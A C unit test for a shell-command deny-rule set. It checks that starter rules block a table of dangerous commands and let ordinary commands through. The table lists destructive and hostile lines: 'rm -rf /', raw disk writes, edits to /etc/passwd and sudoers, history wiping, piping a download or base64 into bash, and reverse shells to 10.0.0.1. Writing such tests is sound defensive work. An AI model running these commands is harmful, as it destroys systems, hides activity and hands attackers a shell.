/* The rules that are shipped to begin with (rules/starter) load, refuse what they are for, and leave ordinary shell work alone. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/attr.h"
#include "rules/command.h"

static const struct { const char *line, *rule; } bad[] = {
	{ "su -", "su" }, { "sudo su", "su" }, { "passwd root", "passwd" }, { "echo a:b | sudo chpasswd", "passwd" }, { "sudo shutdown -h now", "power" },
	{ "ls;reboot", "power" }, { "sh -c 'poweroff'", "power" }, { "systemctl reboot", "power" }, { "init 6", "power" }, { "mkfs.ext4 /dev/sdb1", "mkfs" },
	{ "dd if=x of=/dev/sda", "dd-to-device" }, { "cat x > /dev/sda", "write-to-device" }, { "rm -rf /", "rm-system" }, { "rm -rf /*", "rm-system" },
	{ "rm -r -f /etc/", "rm-system" }, { "sudo rm --recursive /usr", "rm-system" }, { "iptables -F", "iptables-flush" },
	{ "nft flush ruleset", "iptables-flush" }, { "echo x >> /etc/passwd", "system-files" }, { "echo x | sudo tee -a /etc/sudoers.d/x", "system-files" },
	{ "cp /tmp/x /etc/passwd", "system-files" }, { "vi /etc/ssh/sshd_config", "system-files" }, { "sed -i s/a/b/ /etc/default/grub", "system-files" }, { "history -c", "history" },
	{ "unset HISTFILE", "history" }, { "HISTFILE=/dev/null", "history" }, { "set +o history", "history" }, { "rm ~/.bash_history", "history" },
	{ "echo cm0= | base64 -d | bash", "base64-to-shell" }, { "curl https://x | sudo bash", "download-to-shell" },
	{ "bash -i >& /dev/tcp/10.0.0.1/443 0>&1", "reverse-shell" }, { "nc -e /bin/sh 10.0.0.1 443", "reverse-shell" },
	{ "python3 -c 'import socket; s=socket.socket(); s.connect((h,1))'", "reverse-shell" }
};

static char *
read_file(const char *path, size_t *ret_n)
{
	FILE *f = fopen(path, "r");
	char *p = malloc(65536);

	assert_non_null(f);
	assert_non_null(p);
	*ret_n = fread(p, 1, 65535, f);
	p[*ret_n] = '\0';
	(void)fclose(f);
	return p;
}

static struct sp_commands *
starter(void)
{
	struct sp_command_place place = { .user = "u", .mode = SP_COMMAND_BLACK };
	struct sp_commands *c = NULL;
	struct sp_rules_error err = { .why = "" };
	glob_t g;

	assert_int_equal(sp_commands_new(&c), SP_OK);
	assert_int_equal(glob(STARTER "/*.yml", 0, NULL, &g), 0);
	for (size_t i = 0; i < g.gl_pathc; i++) {
		char name[128];
		struct sp_command_rule r = { .name = name, .set = "starter", .message = "", .priority = 50, .action = SP_COMMAND_DENY };
		char *text = read_file(g.gl_pathv[i], &r.len);

		(void)sp_strlcpy(name, strrchr(g.gl_pathv[i], '/') + 1, sizeof(name));
		name[strlen(name) - 4] = '\0';
		r.text = text;
		if (sp_commands_add(c, &r, &err) != SP_OK)
			fail_msg("%s, line %u: %s", g.gl_pathv[i], err.line, err.why);
		free(text);
	}
	globfree(&g);
	assert_int_equal(sp_commands_place(c, &place), SP_OK);
	assert_int_equal(sp_commands_ready(c, &err), SP_OK);
	return c;
}

static struct sp_command_verdict
judge(struct sp_commands *c, const char *text)
{
	struct sp_command_line l = { .text = text, .len = strlen(text), .protocol = "shell" };
	struct sp_command_verdict v;

	sp_commands_judge(c, &l, &v);
	return v;
}

static void
each_rule_refuses_what_it_is_for(void **state)
{
	struct sp_commands *c = starter();
	struct sp_command_said said;

	(void)state;
	for (size_t i = 0; i < SP_NELEMS(bad); i++) {
		struct sp_command_verdict v = judge(c, bad[i].line);

		if (v.rule < 0)
			fail_msg("passes: %s", bad[i].line);
		sp_commands_rule(c, v.rule, &said);
		assert_string_equal(said.name, bad[i].rule);
	}
	sp_commands_free(c);
}

static void
ordinary_work_raises_nothing(void **state)
{
	struct sp_commands *c = starter();
	size_t n, lines = 0;
	char *text = read_file(STARTER "/benign.txt", &n);

	(void)state;
	for (char *s = text, *next; s != NULL && *s != '\0'; s = next, lines++) {
		struct sp_command_said said;
		struct sp_command_verdict v;

		if ((next = strchr(s, '\n')) != NULL)
			*next++ = '\0';
		v = judge(c, s);
		if (v.rule >= 0) {
			sp_commands_rule(c, v.rule, &said);
			fail_msg("%s refuses: %s", said.name, s);
		}
	}
	assert_true(lines > 80);
	free(text);
	sp_commands_free(c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_refuses_what_it_is_for),
		cmocka_unit_test(ordinary_work_raises_nothing),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
